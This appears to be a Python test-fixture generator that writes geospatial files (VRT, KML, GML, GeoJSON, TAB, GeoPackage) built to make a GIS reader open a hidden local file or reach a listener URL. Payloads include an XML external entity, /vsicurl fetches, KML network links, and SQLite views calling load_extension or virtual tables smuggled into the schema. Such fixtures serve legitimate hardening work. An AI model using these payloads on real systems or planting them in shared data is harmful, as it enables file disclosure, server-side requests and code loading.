"""Files that would make a careless reader open another file or the network, each built in place
round one real file.

`build(folder, secret, url)` writes a file and returns its path. `secret` is a GeoJSON that nobody
named; `url` is where a listener waits.
"""

from __future__ import annotations

import json
import shutil
import sqlite3
import zipfile
from collections.abc import Callable
from pathlib import Path

import geopandas as gpd
import shapely

SUFFIXES = (
    "gpkg",
    "shp",
    "kml",
    "gml",
    "fgb",
    "geojson",
    "json",
    "gpx",
    "sqlite",
    "tab",
    "mif",
    "txt",
    "xml",
    "vrt",
    "dbf",
)
PLOT = shapely.box(112.70, 38.14, 112.706, 38.145)
Builder = Callable[[Path, Path, str], Path]

VIRTUAL = {
    "vrt_file": '<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{secret}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>',
    "vrt_http": '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>/vsicurl/{url}a.geojson</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>',
    "vrt_after_kml": "<kml/><OGRVRTDataSource><OGRVRTLayer name='secret'><SrcDataSource>{secret}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>",
    "vrt_in_comment": "<!-- <OGRVRTDataSource> --><kml><Document/></kml>",
    "gdalg_file": '{{"type":"gdal_streamed_alg","command_line":"gdal vector convert {secret} --output-format stream streamed_dataset"}}',
    "gdalg_http": '{{"command_line":"gdal vector convert /vsicurl/{url}a.geojson --output-format stream streamed_dataset","type" : "gdal_streamed_alg"}}',
    "wfs": "<OGRWFSDataSource><URL>{url}wfs</URL></OGRWFSDataSource>",
    "wfs_capabilities": '<WFS_Capabilities version="1.1.0" xmlns="http://www.opengis.net/wfs"><OperationsMetadata><Operation name="GetFeature"><DCP><HTTP><Get xlink:href="{url}"/></HTTP></DCP></Operation></OperationsMetadata><FeatureTypeList><FeatureType><Name>a</Name></FeatureType></FeatureTypeList></WFS_Capabilities>',
    "oapif": '{{"links":[{{"rel":"data","href":"{url}collections"}}],"collections":[{{"id":"a","links":[{{"rel":"items","href":"{url}items"}}]}}]}}',
    "tilejson": '{{"tilejson":"2.2.0","tiles":["{url}{{z}}/{{x}}/{{y}}.pbf"],"vector_layers":[{{"id":"a"}}]}}',
    "link_crs": '{{"type":"FeatureCollection","crs":{{"type":"link","properties":{{"href":"{url}crs","type":"proj4"}}}},"features":[{plot}]}}',
    "link_crs_escaped": '{{"type":"FeatureCollection","\\u0063rs":{{"type":"l\\u0069nk","properties":{{"href":"{url}crs"}}}},"features":[{plot}]}}',
    "url_crs": '{{"type":"FeatureCollection","crs":{{"type":"url","properties":{{"url":"{url}crs"}}}},"features":[{plot}]}}',
    "crs_name_url": '{{"type":"FeatureCollection","crs":{{"type":"name","properties":{{"name":"{url}crs"}}}},"features":[{plot}]}}',
    "jsonfg_crs": '{{"type":"FeatureCollection","conformsTo":["http://www.opengis.net/spec/json-fg-1/0.2/conf/core"],"coordRefSys":"{url}crs","features":[{plot}]}}',
    "next_page": '{{"type":"FeatureCollection","features":[{plot}],"links":[{{"rel":"next","href":"{url}next"}}]}}',
    "esri_next": '{{"exceededTransferLimit":true,"geometryType":"esriGeometryPoint","spatialReference":{{"wkid":4490}},"fields":[],"features":[{{"attributes":{{}},"geometry":{{"x":112.7,"y":38.14}}}}]}}',
    "gml_schema_http": '<FeatureCollection xmlns="http://www.opengis.net/wfs" xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a {url}a.xsd">{gml}</FeatureCollection>',
    "gml_schema_file": '<FeatureCollection xmlns="http://www.opengis.net/wfs" xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a {secret}">{gml}</FeatureCollection>',
    "gml_xlink": '<FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink"><gml:featureMember><a gml:id="a"><g xlink:href="{url}a.gml#x"/></a></gml:featureMember>{gml}</FeatureCollection>',
    "gml_srs_url": '<FeatureCollection xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><a><g><gml:Point srsName="{url}crs"><gml:pos>38.14 112.7</gml:pos></gml:Point></g></a></gml:featureMember></FeatureCollection>',
    "gml_entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "{secret}">]><FeatureCollection xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><a><n>&x;</n></a></gml:featureMember></FeatureCollection>',
    "kml_networklink": '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link><href>{url}a.kml</href></Link></NetworkLink>{mark}</Document></kml>',
    "kml_networklink_file": '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link><href>{secret}</href></Link></NetworkLink>{mark}</Document></kml>',
    "kml_styleurl": '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><styleUrl>{url}style.kml#a</styleUrl><Point><coordinates>112.7,38.14</coordinates></Point></Placemark></Document></kml>',
    "kml_schemaurl": '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><ExtendedData><SchemaData schemaUrl="{url}a.kml#s"/></ExtendedData><Point><coordinates>112.7,38.14</coordinates></Point></Placemark></Document></kml>',
    "gpx_link": '<gpx xmlns="http://www.topografix.com/GPX/1/1" version="1.1"><wpt lat="38.14" lon="112.7"><link href="{url}a.gpx"/></wpt></gpx>',
    "tab_seamless": '!table\n!version 100\n\nDefinition Table\n  File "{secret}"\n  Type NATIVE Charset "Neutral"\n  Fields 1\n    Table Char (20) ;\nbegin_metadata\n"\\IsSeamless" = "TRUE"\nend_metadata\n',
    "tab_view": '!table\n!version 100\nopen table "{secret}" Hide\nopen table "b" Hide\ncreate view a as Select x from a, b where a.i=b.i\n',
    "tab_linked": '!table\n!version 300\nDefinition Table\n  Type ODBC Charset "Neutral"\n  Fields 0\nbegin_metadata\n"\\DATALINK\\Server" = "{url}"\nend_metadata\n',
    "wms": "<GDAL_WMS><Service name='TMS'><ServerUrl>{url}${{z}}</ServerUrl></Service></GDAL_WMS>",
    "vsicurl": "/vsicurl/{url}a.geojson",
    "carto": "carto:a tables=b",
    "ngw": "NGW:{url}resource/1",
    "pg": "PG:host=127.0.0.1 dbname=a",
    "csw": "CSW:{url}",
    "vfk": "&HVERZE;{secret}",
    "idrisi": "file title  : {secret}\n",
    "gmlas": '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{url}a.xsd"/>',
    "georss": '<rss version="2.0"><channel><item><link>{url}</link><georss:point xmlns:georss="http://www.georss.org/georss">38.14 112.7</georss:point></item></channel></rss>',
    "mapml": '<mapml- xmlns="http://www.w3.org/1999/xhtml"><map-head><map-link rel="license" href="{url}"/></map-head></mapml->',
    "pds4": '<Product_Observational xmlns="http://pds.nasa.gov/pds4/pds/v1"><File_Area_Observational><File><file_name>{secret}</file_name></File></File_Area_Observational></Product_Observational>',
    "stac": '{{"type":"FeatureCollection","stac_version":"1.0.0","features":[{{"type":"Feature","stac_version":"1.0.0","geometry":null,"properties":{{}},"assets":{{"a":{{"href":"{url}a.tif"}}}}}}]}}',
}  # fmt: skip
"""Texts of formats that refer elsewhere; each is tried under every suffix."""


def filled(text: str, secret: Path, url: str) -> str:
    """Put the real file and address into a text."""
    plot = {"type": "Feature", "properties": {}, "geometry": json.loads(shapely.to_geojson(PLOT))}
    gml = (
        "<gml:featureMember><dk><g><gml:Point"
        ' srsName="EPSG:4490"><gml:coordinates>112.7,38.14</gml:coordinates>'
        "</gml:Point></g></dk></gml:featureMember>"
    )
    mark = "<Placemark><name>甲</name><Point><coordinates>112.7,38.14</coordinates></Point></Placemark>"
    return text.format(secret=secret, url=url, plot=json.dumps(plot), gml=gml, mark=mark)


def database(path: Path, *statements: str) -> Path:
    """Write a GeoPackage with a plot and some statements more."""
    gpd.GeoDataFrame({"name": ["甲"]}, geometry=[PLOT], crs="EPSG:4490").to_file(
        path, layer="dk", driver="GPKG"
    )
    with sqlite3.connect(path) as connection:
        connection.execute("PRAGMA writable_schema = 1")
        for statement in statements:
            connection.execute(statement)
    connection.close()
    return path


def _smuggled(sql: str) -> str:
    """Write a table into the schema itself, as its module is not known here."""
    return (
        "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('table', 'evil',"
        f" 'evil', 0, '{sql.replace(chr(39), chr(39) * 2)}')"
    )


def databases(folder: Path, secret: Path, url: str) -> list[Path]:
    """Write GeoPackages whose views and tables reach out."""
    register = (
        (
            "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES"
            " ('evil','features','evil',4490)"
        ),
        "INSERT INTO gpkg_geometry_columns VALUES ('evil','geom','GEOMETRY',4490,0,0)",
    )
    statements = {
        "geocode": ("CREATE VIEW evil AS SELECT fid, geom, ogr_geocode('太原') AS a FROM dk", *register),
        "pixel": (f"CREATE VIEW evil AS SELECT fid, geom, gdal_get_pixel_value('/vsicurl/{url}a.tif',1,'georef',0,0) AS a FROM dk", *register),
        "extension": (f"CREATE VIEW evil AS SELECT fid, geom, load_extension('{secret}') AS a FROM dk", *register),
        "virtualogr": (_smuggled(f"CREATE VIRTUAL TABLE evil USING VirtualOGR('{secret}')"), *register),
        "virtualtext": (_smuggled(f"CREATE VIRTUAL TABLE evil USING VirtualText('{secret}', utf-8)"), *register),
        "virtualshape": (_smuggled(f'CREATE VIRTUAL TABLE evil USING "VirtualShape"(\'{secret}\', utf-8, 4326)'), *register),
    }  # fmt: skip
    paths = []
    for name, made in statements.items():
        path = database(folder / f"{name}.gpkg", *made)
        copy = folder / f"{name}.sqlite"
        shutil.copy(path, copy)
        paths += [path, copy]
    return paths


def zipped(folder: Path, name: str, inner: str, content: bytes) -> Path:
    """Pack one file."""
    path = folder / f"{name}.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(inner, content)
    return path
